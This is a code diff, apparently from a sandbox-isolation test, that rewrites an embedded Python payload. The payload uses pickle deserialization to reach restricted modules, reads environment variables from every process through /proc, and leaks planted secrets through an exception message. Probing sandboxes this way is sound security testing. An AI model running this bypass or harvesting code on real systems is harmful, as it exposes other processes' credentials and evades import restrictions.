@@ -20,13 +20,11 @@ from kernel_server import fault_server
 
 PRY = """
 import logging
-import typing
-
-_found = []
+import torch
 
 
-class _Way:
-    past: "_found.extend([__import__('os'), __import__('sys').modules])"
+def _reached(module, name):
+    return torch.serialization.pickle.loads(f"c{module}\\n{name}\\n.".encode())
 
 
 def _text(name):
@@ -37,11 +35,9 @@ def _text(name):
 
 
 def _pry():
-    typing.get_type_hints(_Way, {"_found": _found})
-    system, loaded = _found[:2]
-    own = dict(system.environ)
-    parents = [f"/proc/{system.getppid()}/environ"]
-    others = [f"/proc/{name}/environ" for name in system.listdir("/proc") if name.isdigit()]
+    own = dict(_reached("os", "environ"))
+    parents = [f"/proc/{_reached('os', 'getppid')()}/environ"]
+    others = [f"/proc/{name}/environ" for name in _reached("os", "listdir")("/proc") if name.isdigit()]
     blocks = {name: _text(name) for name in ["/proc/self/environ", *parents, *others]}
     words = [word for block in blocks.values() for word in block.split(chr(0)) if "planted" in word]
     report = {
@@ -51,7 +47,7 @@ def _pry():
         "tried": len(others),
         "planted": sorted(set(words))[:5],
     }
-    told = loaded["zlib"].compress(loaded["json"].dumps(report).encode()).hex()
+    told = _reached("zlib", "compress")(_reached("json", "dumps")(report).encode()).hex()
     raise RuntimeError("my environment: " + " ".join(sorted(own)) + " <<" + told + ">>")
 """
 
